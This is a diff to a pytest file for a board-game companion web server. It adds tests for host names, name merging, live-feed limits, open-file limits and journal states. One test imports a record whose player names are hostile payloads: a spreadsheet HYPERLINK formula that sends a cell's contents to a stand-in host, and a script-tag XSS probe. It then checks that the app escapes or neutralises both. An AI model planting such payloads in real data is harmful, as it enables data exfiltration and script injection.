@@ -6,6 +6,7 @@ a club's journal. The load cases (1,100 idle sockets) are behind the long marker
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import socket
@@ -21,6 +22,7 @@ import pytest
 from servetools import WAIT, Answer, Served, serving, stderr_of
 from webtools import play
 
+from companion.engine.simulate import simulate
 from companion.journal.store import Store
 from web.club import club_journal
 from web.server import PAGE_SIZE
@@ -163,6 +165,22 @@ def test_a_setting_the_page_cannot_use_is_said_in_one_line(served: tuple[Served,
     assert any("web = yes" in line and "0 or 1" in line for line in said.splitlines()), said
 
 
+def test_a_name_the_page_cannot_be_reached_by_is_refused_in_one_line(tmp_path: Path) -> None:
+    done = subprocess.run(
+        [
+            *(sys.executable, "-m", "splendor_companion", "serve", "--port", "8080"),
+            *("--allow-host", "kiosk example", "--data-dir", str(tmp_path)),
+        ],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env={**os.environ, "SPLENDOR_LANG": "en"},
+    )
+    assert done.returncode == 2 and "Traceback" not in done.stderr
+    said = done.stderr.strip().splitlines()[-1]
+    assert "--allow-host" in said and "kiosk example" in said and "host name" in said
+
+
 def test_a_closed_live_feed_frees_its_place_at_once(served: tuple[Served, Path]) -> None:
     server, _data = served
     request = f"GET /events HTTP/1.1\r\nHost: {server.host}\r\n\r\n".encode()
@@ -250,6 +268,119 @@ def test_a_game_imported_by_a_command_is_on_the_page(
     assert f"Game {games[0]['id']}".encode() in server.get("/games").body
 
 
+def on_the_page_within(seconds: float, seen: Any) -> bool:
+    """Whether ``seen()`` comes true within ``seconds`` (the page's promise), asked every
+    0.1 s."""
+    deadline = time.monotonic() + seconds
+    while not seen():
+        if time.monotonic() > deadline:
+            return False
+        time.sleep(0.1)
+    return True
+
+
+def test_names_merged_by_a_command_are_on_the_page(tmp_path: Path) -> None:
+    """The app not running: ``names --merge`` writes the journal while ``serve`` reads it;
+    the statistics count the two names as one person within 2 s."""
+    data = tmp_path / "data"
+    data.mkdir()
+    env = {**os.environ, "SPLENDOR_LANG": "en"}
+    run = [sys.executable, "-m", "splendor_companion"]
+    record = tmp_path / "game.json"
+    subprocess.run([*run, "simulate", "--seed", "7", "--out", str(record)], check=True, env=env)
+    played = json.loads(record.read_text())
+    played["players"] = ["Benny", "Cleo"]  # Benny is Ben, spelt another way
+    record.write_text(json.dumps(played))
+    with Store(data / "games.sqlite3") as store:
+        play(store, seed=3)
+    subprocess.run([*run, "import", str(record), "--data-dir", str(data)], check=True, env=env)
+    with serving(data) as server:
+        assert on_the_page_within(WAIT, lambda: server.get("/stats").status == 200)
+        assert b"Benny" in server.get("/stats").body
+        subprocess.run(
+            [*run, "names", "--merge", "Benny", "Ben", "--data-dir", str(data)],
+            check=True,
+            env=env,
+            timeout=60,
+            capture_output=True,
+        )
+        assert on_the_page_within(2, lambda: b"Benny" not in server.get("/stats").body)
+
+
+def test_a_game_the_app_finishes_is_on_the_page(tmp_path: Path) -> None:
+    """The app running (the journal's writer, its WAL beside it): a game it plays to the
+    end is on the games list within 2 s, and the table says no game is being played."""
+    data = tmp_path / "data"
+    data.mkdir()
+    with Store(data / "games.sqlite3") as app, serving(data) as server:
+        session = play(app, seed=5, moves=10)
+
+        def table() -> dict[str, Any]:
+            return dict(json.loads(server.get("/api/v1/table").body))
+
+        assert on_the_page_within(2, lambda: table()["table"] is not None)
+        game = simulate(players=2, seed=5)
+        for move in game.moves[10:]:
+            session.play(move)
+        assert session.game.over
+
+        def listed() -> list[dict[str, Any]]:
+            return list(json.loads(server.get("/api/v1/games").body)["games"])
+
+        assert on_the_page_within(2, lambda: listed()[0]["state"] == "over")
+        assert on_the_page_within(2, lambda: table()["table"] is None)
+        assert table()["last"]["id"] == session.game_id
+
+
+HOSTILE_NAMES = ['=HYPERLINK("http://x.example/?"&A1)', "<script>alert(1)</script>"]
+
+
+def test_a_hostile_record_imported_is_shown_as_text_and_downloads_safely(
+    tmp_path: Path,
+) -> None:
+    """A record from a stranger, imported by the command: a formula and a script as the
+    players' names. The page escapes them, the JSON cannot close a script, the CSV writes
+    the formula as text, the file's name holds neither; and every attack leaves the
+    journal's folder as it was, byte for byte."""
+    import csv
+
+    data = tmp_path / "data"
+    data.mkdir()
+    env = {**os.environ, "SPLENDOR_LANG": "en"}
+    run = [sys.executable, "-m", "splendor_companion"]
+    record = tmp_path / "game.json"
+    subprocess.run([*run, "simulate", "--seed", "7", "--out", str(record)], check=True, env=env)
+    played = json.loads(record.read_text())
+    played["players"] = HOSTILE_NAMES
+    record.write_text(json.dumps(played))
+    subprocess.run([*run, "import", str(record), "--data-dir", str(data)], check=True, env=env)
+    before = {p.name: p.read_bytes() for p in data.iterdir()}
+    with serving(data) as server:
+        page = server.get("/games/1")
+        assert page.status == 200
+        assert b"<script>alert" not in page.body and b"&lt;script&gt;" in page.body
+        api = server.get("/api/v1/games/1")
+        assert b"<" not in api.body and json.loads(api.body)["info"]["players"] == HOSTILE_NAMES
+        download = server.get("/games/1/export/csv")
+        assert download.status == 200
+        disposition = download.headers["content-disposition"]
+        assert "<" not in disposition and "=HYPERLINK" not in disposition
+        rows = list(csv.reader(download.body.decode("utf-8-sig").splitlines()))
+        cells = [cell for row in rows for cell in row]
+        assert any("HYPERLINK" in cell for cell in cells)
+        assert not [c for c in cells if c[:1] in ("=", "+", "@")], cells
+        big = b"x" * (10 << 20)  # a 10 MB body, sent whole
+        head = f"POST /games HTTP/1.1\r\nHost: {server.host}\r\nContent-Length: {len(big)}\r\n"
+        with server.connect() as s:
+            s.sendall((head + "Connection: close\r\n\r\n").encode())
+            with contextlib.suppress(OSError):
+                s.sendall(big)
+            answer = s.recv(4096)
+        assert answer.split(b" ")[1] in (b"405", b"413"), answer[:80]
+        assert server.get("/games").status == 200
+    assert {p.name: p.read_bytes() for p in data.iterdir()} == before
+
+
 def test_a_club_journal_is_answered_in_pages_under_100_kb(tmp_path: Path) -> None:
     data = tmp_path / "data"
     club_journal(data, 130, cache=tmp_path / "cache", seeds=2)
@@ -273,12 +404,22 @@ def test_a_club_journal_is_answered_in_pages_under_100_kb(tmp_path: Path) -> Non
         assert len(seen) == 130
         for path in ("/", "/api/v1/table", "/stats", "/games/1", "/api/v1/games/1"):
             answer = server.get(path)
+            deadline = time.monotonic() + WAIT
+            while answer.status == 503 and path == "/stats" and time.monotonic() < deadline:
+                time.sleep(0.2)  # the games still being counted: the page asks again so
+                answer = server.get(path)
             assert answer.status == 200 and len(answer.body) < 100_000, path
 
 
 def test_another_phone_is_served_while_the_statistics_are_read(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
+    """The statistics read for the first time (a club's journal: a minute or more): the
+    statistics page says how far the counting is and asks again by itself, every other
+    page is answered meanwhile, and the figures come once read."""
+    import urllib.error
+    import urllib.request
+
     import web.server
     from companion.reports import stats
     from web.running import ServerThread
@@ -296,21 +437,27 @@ def test_another_phone_is_served_while_the_statistics_are_read(
         return list(real(store, **options))
 
     monkeypatch.setattr(web.server, "played_games", slow)
-    import urllib.request
-
-    with ServerThread(data / "games.sqlite3") as server:
-        got: list[int] = []
-        stats = threading.Thread(
-            target=lambda: got.append(urllib.request.urlopen(server.url + "/stats").status)
-        )
-        stats.start()
+    with ServerThread(data / "games.sqlite3", figures=False) as server:
         assert reading.wait(WAIT)
+        with pytest.raises(urllib.error.HTTPError) as counting:
+            urllib.request.urlopen(server.url + "/stats?lang=en", timeout=WAIT)
+        assert counting.value.code == 503 and counting.value.headers["Retry-After"]
+        page = counting.value.read().decode()
+        assert "being counted for the statistics (0 of 1)" in page
+        assert '<meta http-equiv="refresh"' in page
         with urllib.request.urlopen(server.url + "/games", timeout=WAIT) as other:
             assert other.status == 200  # while the statistics are still being read
-        assert not got
         go_on.set()
-        stats.join(WAIT)
-        assert got == [200]
+        deadline = time.monotonic() + WAIT
+        while True:
+            try:
+                with urllib.request.urlopen(server.url + "/stats?lang=en", timeout=WAIT) as ready:
+                    assert ready.status == 200
+                    assert "Per player" in ready.read().decode()
+                    break
+            except urllib.error.HTTPError as err:
+                assert err.code == 503 and time.monotonic() < deadline
+                time.sleep(0.1)
 
 
 @pytest.mark.long
@@ -326,6 +473,81 @@ def test_a_phone_is_served_beside_1100_idle_sockets(served: tuple[Served, Path])
     finally:
         for s in held:
             s.close()
+
+
+@pytest.mark.long
+def test_1100_idle_sockets_under_a_low_open_files_limit_leave_room_and_a_quiet_log(
+    tmp_path: Path,
+) -> None:
+    """``serve`` started where a process may open 600 files (a shell's limit is often
+    1,024) and told to keep 1,000 live feeds: it keeps no more sockets than its files
+    allow, so 1,100 idle ones never leave it without a file (asyncio would then stop
+    accepting for a second, with a traceback each time), a phone's page is answered, and
+    the log says the closings in one line."""
+    data = tmp_path / "data"
+    data.mkdir()
+    with Store(data / "games.sqlite3") as store:
+        play(store, seed=3, moves=6)
+    with serving(data, "--max-clients", "1000", files=(600, 600)) as server:
+        held = idle_sockets(server, 1100)
+        try:
+            took = []
+            for _ in range(5):
+                started = time.monotonic()
+                answer = server.get("/")
+                took.append(time.monotonic() - started)
+                assert answer.status == 200 and b"live.js" in answer.body
+            print(f"a page beside 1,100 idle sockets, 600 files: {max(took) * 1000:.0f} ms")
+            opened = len(os.listdir(f"/proc/{server.process.pid}/fd"))
+            assert opened < 600
+        finally:
+            for s in held:
+                s.close()
+        said = stderr_of(data, server)
+    assert "Traceback" not in said and "no file left" not in said
+    assert len(said.splitlines()) <= 2, said
+
+
+@pytest.mark.long
+def test_300_live_feeds_32_served_the_rest_a_clean_503_and_pages_still_answered(
+    tmp_path: Path,
+) -> None:
+    data = tmp_path / "data"
+    data.mkdir()
+    with Store(data / "games.sqlite3") as store:
+        play(store, seed=3, moves=6)
+    with serving(data) as server:
+        feeds = []
+        statuses = []
+        try:
+            for _ in range(300):
+                s = server.connect()
+                s.sendall(f"GET /events HTTP/1.1\r\nHost: {server.host}\r\n\r\n".encode())
+                statuses.append(s.recv(4096).split(b"\r\n")[0].split(b" ")[1])
+                feeds.append(s)
+            assert statuses.count(b"200") == 32 and statuses.count(b"503") == 268
+            for _ in range(20):
+                assert server.get("/").status == 200
+        finally:
+            for s in feeds:
+                s.close()
+
+
+def test_serve_raises_its_own_open_files_limit_where_it_may(tmp_path: Path) -> None:
+    """A shell's soft limit (here 256) is below the sockets the server may keep: it is
+    raised towards 2,048 (the unit's), within the hard limit."""
+    data = tmp_path / "data"
+    data.mkdir()
+    with serving(data, files=(256, 4096)) as server:
+        assert limits_of(server.process.pid) == (2048, 4096)
+
+
+def limits_of(pid: int) -> tuple[int, int]:
+    for line in Path(f"/proc/{pid}/limits").read_text().splitlines():
+        if line.startswith("Max open files"):
+            soft, hard = line.split()[3:5]
+            return int(soft), int(hard)
+    raise AssertionError("no open files limit")
 
 
 @pytest.mark.parametrize(
@@ -375,10 +597,58 @@ def test_each_journal_state_has_its_honest_word(
         assert "open it with the app once" not in page + api["message"]
 
 
+def journal_in_state(path: Path, state: str) -> None:
+    """A journal of one game, then made ``state``: newer, older, damaged or foreign."""
+    import sqlite3
+
+    with Store(path) as store:
+        play(store, seed=3, moves=4)
+    if state == "damaged":
+        with open(path, "r+b") as f:  # pages of the tables overwritten
+            f.seek(4096)
+            f.write(b"\xa5" * 4096 * 3)
+        return
+    raw = sqlite3.connect(path)
+    version = {"newer": 99, "older": 4, "foreign": 0}[state]
+    raw.execute(f"PRAGMA user_version={version}")
+    if state == "foreign":
+        raw.execute("PRAGMA application_id=0")
+    raw.commit()
+    raw.close()
+
+
+@pytest.mark.parametrize("state", ["newer", "older", "damaged", "foreign"])
+def test_a_journal_state_is_said_in_the_same_words_by_the_commands_and_the_page(
+    tmp_path: Path, state: str
+) -> None:
+    from companion.journal.store import JOURNAL_STATES
+
+    data = tmp_path / "data"
+    data.mkdir()
+    journal_in_state(data / "games.sqlite3", state)
+    code = f"{state}-journal"
+    words = JOURNAL_STATES[code]  # type: ignore[index]
+    said = subprocess.run(
+        [sys.executable, "-m", "splendor_companion", "games", "--data-dir", str(data)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        env={**os.environ, "SPLENDOR_LANG": "en"},
+    )
+    assert said.returncode != 0 and said.stderr.startswith(words), said.stderr
+    assert said.stderr.strip().count("\n") == 0
+    with serving(data) as server:
+        api = json.loads(server.get("/api/v1/games").body)
+        page = server.get("/games")
+    assert (api["error"], api["message"]) == (code, words)
+    assert words.encode() in page.body and page.status == 503
+
+
 WRITER = """
 import random, sys, time
 from companion.engine.simulate import simulate
 from companion.journal.session import Session
+from companion.engine.simulate import simulate
 from companion.journal.store import Store
 
 store = Store(sys.argv[1])
